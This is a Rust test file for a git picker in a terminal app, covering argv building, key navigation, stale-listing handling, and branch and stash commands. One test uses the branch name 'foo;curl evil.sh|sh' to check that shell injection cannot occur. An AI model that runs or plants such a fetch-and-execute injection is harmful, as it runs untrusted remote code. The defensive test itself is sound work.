use herdr::lists::GitListEntry;
use herdr::picker::{
    branch_create_command, git_file_menu_action, git_repo_menu_action, handle_git_picker_key,
    scroll_git_diff, GitFileMenuAction, GitPickerKind, GitPickerState, GitRepoCommand,
    GitRepoMenuAction, PickerKey, PickerKeyOutcome, SelectionListState,
};

#[test]
fn repo_commands_are_argv_not_shell_strings() {
    assert_eq!(GitRepoCommand::Fetch.argv(), vec!["git", "fetch", "--all", "--prune"]);
    assert_eq!(GitRepoCommand::Pull.argv(), vec!["git", "pull"]);
    assert_eq!(GitRepoCommand::Push.argv(), vec!["git", "push"]);
    assert_eq!(GitRepoCommand::Log.argv()[..2], ["git", "log"]);
    assert_eq!(GitRepoCommand::StashPush.argv(), vec!["git", "stash", "push"]);
    // Every element must be a single argument: nothing may rely on shell word splitting.
    for command in [
        GitRepoCommand::Fetch,
        GitRepoCommand::Pull,
        GitRepoCommand::Push,
        GitRepoCommand::Log,
        GitRepoCommand::StashPush,
    ] {
        for arg in command.argv() {
            assert!(!arg.contains(' '), "argv element {arg:?} contains a space");
        }
    }
}

/// Git refnames may legally contain `;`, `$`, backticks and parentheses. A hostile branch name
/// must reach git as one argv element, never as shell syntax.
#[test]
fn hostile_branch_name_stays_a_single_argument() {
    let hostile = "foo;curl evil.sh|sh";
    let picker = GitPickerState {
        kind: GitPickerKind::SwitchBranch,
        generation: 1,
        repo_root: "/repo".into(),
        entries: vec![GitListEntry { value: hostile.into(), label: hostile.into() }],
        selected: SelectionListState::new(0),
        loading: false,
        error: None,
    };

    let entry = picker.selected_entry().expect("entry");
    assert_eq!(entry.value, hostile);
    let (argv, label) = picker.confirm_command().expect("command");

    assert_eq!(argv.len(), 3, "the name must not be split into extra args");
    assert_eq!(argv[2], hostile, "the name is passed through verbatim");
    assert_eq!(argv, vec!["git", "switch", hostile]);
    assert_eq!(label, "switch");
}

fn picker_with_stashes() -> GitPickerState {
    GitPickerState {
        kind: GitPickerKind::ApplyStash,
        generation: 1,
        repo_root: "/repo".into(),
        entries: vec![
            GitListEntry { value: "stash@{0}".into(), label: "stash@{0}  newest".into() },
            GitListEntry { value: "stash@{1}".into(), label: "stash@{1}  older".into() },
        ],
        selected: SelectionListState::new(0),
        loading: false,
        error: None,
    }
}

#[test]
fn arrows_move_the_selection_within_bounds() {
    let mut picker = picker_with_stashes();

    assert_eq!(handle_git_picker_key(&mut picker, PickerKey::Down), PickerKeyOutcome::Stay);
    assert_eq!(picker.selected.selected, 1);

    // Already at the last entry: must not run past the end.
    handle_git_picker_key(&mut picker, PickerKey::Down);
    assert_eq!(picker.selected.selected, 1);

    handle_git_picker_key(&mut picker, PickerKey::Up);
    assert_eq!(picker.selected.selected, 0);
    handle_git_picker_key(&mut picker, PickerKey::Char('k'));
    assert_eq!(picker.selected.selected, 0);
}

#[test]
fn esc_closes_without_running_anything() {
    let mut picker = picker_with_stashes();
    assert_eq!(handle_git_picker_key(&mut picker, PickerKey::Esc), PickerKeyOutcome::Close);
    assert_eq!(handle_git_picker_key(&mut picker, PickerKey::Enter), PickerKeyOutcome::Confirm);
}

#[test]
fn stale_listing_for_another_repository_is_ignored() {
    let mut picker = picker_with_stashes();
    picker.loading = true;

    let taken = picker.apply_listing(
        1,
        &"/other-repo".to_string(),
        Some(vec![GitListEntry { value: "stash@{9}".into(), label: "from elsewhere".into() }]),
    );

    assert!(!taken);
    assert_eq!(picker.entries.len(), 2, "entries must not be replaced");
    assert_eq!(picker.entries[0].value, "stash@{0}");
    assert!(picker.loading, "a listing for another repo must not resolve this picker's loading state");
}

#[test]
fn listing_from_a_superseded_picker_is_rejected() {
    let mut picker = picker_with_stashes();
    picker.generation = 7;
    picker.loading = true;

    picker.apply_listing(
        6,
        &"/repo".to_string(),
        Some(vec![GitListEntry { value: "main".into(), label: "main".into() }]),
    );

    assert_eq!(picker.entries.len(), 2, "stash entries must survive");
    assert_eq!(picker.entries[0].value, "stash@{0}");
    assert!(picker.loading, "the superseded listing must not resolve it");
}

#[test]
fn failed_listing_surfaces_an_error() {
    let mut picker = picker_with_stashes();

    assert!(picker.apply_listing(1, &"/repo".to_string(), None));

    assert!(!picker.loading);
    assert_eq!(picker.error.as_deref(), Some("failed to list git entries"));
    assert_eq!(picker.entries.len(), 2);
}

#[test]
fn a_matching_listing_fills_the_picker() {
    let mut picker = GitPickerState::opening(GitPickerKind::DeleteBranch, 3, "/repo".into());
    assert!(picker.loading);
    assert!(picker.confirm_command().is_none());
    assert!(picker.apply_listing(
        3,
        &"/repo".to_string(),
        Some(vec![GitListEntry { value: "old".into(), label: "old".into() }]),
    ));
    assert!(!picker.loading);
    let (argv, label) = picker.confirm_command().unwrap();
    assert_eq!(argv, vec!["git", "branch", "-d", "old"]);
    assert_eq!(label, "branch delete");
}

#[test]
fn stash_picker_pops_the_highlighted_stash() {
    let mut picker = picker_with_stashes();
    handle_git_picker_key(&mut picker, PickerKey::Char('j'));
    let (argv, label) = picker.confirm_command().unwrap();
    assert_eq!(argv, vec!["git", "stash", "pop", "stash@{1}"]);
    assert_eq!(label, "stash pop");
}

#[test]
fn empty_branch_name_runs_nothing() {
    assert!(branch_create_command("").is_none());
    assert!(branch_create_command("   ").is_none());
    assert_eq!(branch_create_command(" feat/x ").unwrap(), vec!["git", "switch", "-c", "feat/x"]);
}

#[test]
fn menu_labels_map_to_actions() {
    assert_eq!(git_file_menu_action("Open diff"), Some(GitFileMenuAction::OpenDiff));
    assert_eq!(git_file_menu_action("Discard changes..."), Some(GitFileMenuAction::RequestDiscard));
    assert_eq!(git_file_menu_action("Stage "), None);
    assert_eq!(git_repo_menu_action("View log"), Some(GitRepoMenuAction::Run(GitRepoCommand::Log)));
    assert_eq!(git_repo_menu_action("Delete branch..."), Some(GitRepoMenuAction::DeleteBranch));
    assert_eq!(git_repo_menu_action("Rebase"), None);
    assert_eq!(GitRepoCommand::StashPush.label(), "stash");
}

#[test]
fn diff_scrolling_is_clamped() {
    assert_eq!(scroll_git_diff(0, -1, 10), 0);
    assert_eq!(scroll_git_diff(5, 10, 8), 8);
    assert_eq!(scroll_git_diff(5, -10, 8), 0);
    assert_eq!(scroll_git_diff(3, 1, 8), 4);
    assert_eq!(scroll_git_diff(usize::MAX, isize::MAX, usize::MAX), usize::MAX);
    assert_eq!(scroll_git_diff(7, isize::MIN, 9), 0);
}
